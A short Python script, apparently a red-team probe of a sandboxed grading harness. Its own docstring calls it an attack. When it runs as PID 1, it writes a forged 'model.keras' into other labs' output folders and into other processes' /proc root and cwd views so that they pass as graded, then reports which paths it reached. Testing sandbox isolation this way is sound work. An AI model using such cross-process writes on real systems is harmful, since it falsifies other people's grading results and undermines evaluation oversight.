"""Attack: write into the other labs' folders of the same run, to pass them off as graded.

It reports, as its import error, every path it managed to write.
"""

import glob
import os
from pathlib import Path

# Outside the sandbox this would write into other processes' folders on the machine: refuse.
if os.getpid() != 1:
    raise RuntimeError("attack: not run in a sandbox, so not run at all")
here = Path(__file__).resolve().parent  # this lab's "in" folder
workdir, own = here.parents[1], here.parent
others = [path for path in glob.glob(f"{workdir}/*/*") if Path(path).parent != own]
# Through another process's view of the filesystem: its root, or its working folder.
itself = os.readlink("/proc/self")  # its pid as /proc numbers it, not as os.getpid() does
views = [path for path in glob.glob("/proc/[0-9]*") if Path(path).name != itself]
targets = others + [f"{view}/root{workdir}/{lab}/out" for view in views for lab in ("cv4_cifar_cnn",)]
targets += [f"{view}/cwd" for view in views]
written = []
for target in targets:
    try:
        (Path(target) / "model.keras").write_bytes(b"forged")
        written.append(target)
    except OSError:
        pass
seen = sorted(os.listdir(workdir))
raise RuntimeError(f"attack: wrote {written}; saw {seen}")
